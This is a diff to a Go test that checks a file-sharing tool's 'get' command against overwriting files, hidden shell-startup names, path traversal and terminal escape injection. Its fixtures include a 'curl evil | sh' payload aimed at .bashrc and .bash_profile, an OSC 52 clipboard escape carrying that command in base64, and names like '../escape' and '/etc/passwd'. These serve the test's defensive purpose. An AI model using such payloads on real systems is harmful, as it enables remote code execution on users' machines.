@@ -44,16 +44,16 @@ func putNamed(t *testing.T, nodeDir, name string, data []byte) string {
 // harmlessly.
 func TestSharedFileCannotOverwrite(t *testing.T) {
 	nodeDir := newNode(t)
-	capText := putNamed(t, nodeDir, ".bashrc", []byte("curl evil | sh\n"))
+	capText := putNamed(t, nodeDir, "notes.txt", []byte("curl evil | sh\n"))
 	wd := t.TempDir()
-	mine := filepath.Join(wd, ".bashrc")
-	os.WriteFile(mine, []byte("my settings\n"), 0o644)
+	mine := filepath.Join(wd, "notes.txt")
+	os.WriteFile(mine, []byte("my notes\n"), 0o644)
 
 	r := runIn(t, wd, nodeDir, "get", capText)
-	if r.code != 2 || !strings.Contains(r.stderr, ".bashrc exists: not replaced") {
+	if r.code != 2 || !strings.Contains(r.stderr, "notes.txt exists: not replaced") {
 		t.Fatalf("get over an existing file: exit %d %q", r.code, r.stderr)
 	}
-	if got, _ := os.ReadFile(mine); string(got) != "my settings\n" {
+	if got, _ := os.ReadFile(mine); string(got) != "my notes\n" {
 		t.Fatal("the user's file was replaced")
 	}
 	left, _ := filepath.Glob(filepath.Join(wd, ".*umbra*"))
@@ -68,8 +68,8 @@ func TestSharedFileCannotOverwrite(t *testing.T) {
 		t.Fatal("--force did not write the file")
 	}
 	os.WriteFile(mine, []byte("mine again\n"), 0o644)
-	if r := runIn(t, wd, nodeDir, "get", capText, "-o", ".bashrc"); r.code != 0 {
-		t.Fatalf("get -o .bashrc: %d %q", r.code, r.stderr)
+	if r := runIn(t, wd, nodeDir, "get", capText, "-o", "notes.txt"); r.code != 0 {
+		t.Fatalf("get -o notes.txt: %d %q", r.code, r.stderr)
 	}
 	// A file that does not exist is written under the stored name.
 	os.Remove(mine)
@@ -77,18 +77,34 @@ func TestSharedFileCannotOverwrite(t *testing.T) {
 		t.Fatalf("get to a new name: %d %q", r.code, r.stderr)
 	}
 
-	for _, name := range []string{"../escape", "/etc/passwd", "..", "a/b", "evil\x1b]0;pwned\x07\x1b[2J", "nul\x00byte"} {
-		c := putNamed(t, nodeDir, name, []byte("x"))
+	// A hidden name (a new .bash_profile takes over a login shell) is not
+	// taken unasked, even where no such file exists.
+	hidden := putNamed(t, nodeDir, ".bash_profile", []byte("curl evil | sh\n"))
+	if r := runIn(t, wd, nodeDir, "get", hidden); r.code != 2 || !strings.Contains(r.stderr, "hidden file") {
+		t.Fatalf("hidden name: exit %d %q", r.code, r.stderr)
+	}
+	if _, err := os.Stat(filepath.Join(wd, ".bash_profile")); err == nil {
+		t.Fatal("a hidden file was created")
+	}
+	if r := runIn(t, wd, nodeDir, "get", "--force", hidden); r.code != 0 {
+		t.Fatalf("hidden name with --force: %d %q", r.code, r.stderr)
+	}
+
+	// "-" would be standard output: the creator's bytes, escapes and all,
+	// on the terminal of a user who meant to save a file.
+	escapes := "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2Jhello\n"
+	for _, name := range []string{"-", "../escape", "/etc/passwd", "..", "a/b", "evil\x1b]0;pwned\x07\x1b[2J", "nul\x00byte"} {
+		c := putNamed(t, nodeDir, name, []byte(escapes))
 		r := runIn(t, wd, nodeDir, "get", c)
-		if r.code != 2 || !strings.Contains(r.stderr, "refused the stored name") {
-			t.Fatalf("name %q: exit %d %q", name, r.code, r.stderr)
+		if r.code != 2 || !strings.Contains(r.stderr, "refused the stored name") || r.stdout != "" {
+			t.Fatalf("name %q: exit %d %q %q", name, r.code, r.stderr, r.stdout)
 		}
 		if strings.ContainsAny(r.stderr, "\x1b\x07\x00") {
 			t.Fatalf("name %q reached the terminal raw: %q", name, r.stderr)
 		}
 	}
 	ents, _ := os.ReadDir(wd)
-	if len(ents) != 1 {
-		t.Fatalf("working directory holds %d entries, want only .bashrc", len(ents))
+	if len(ents) != 2 {
+		t.Fatalf("working directory holds %d entries, want notes.txt and .bash_profile", len(ents))
 	}
 }
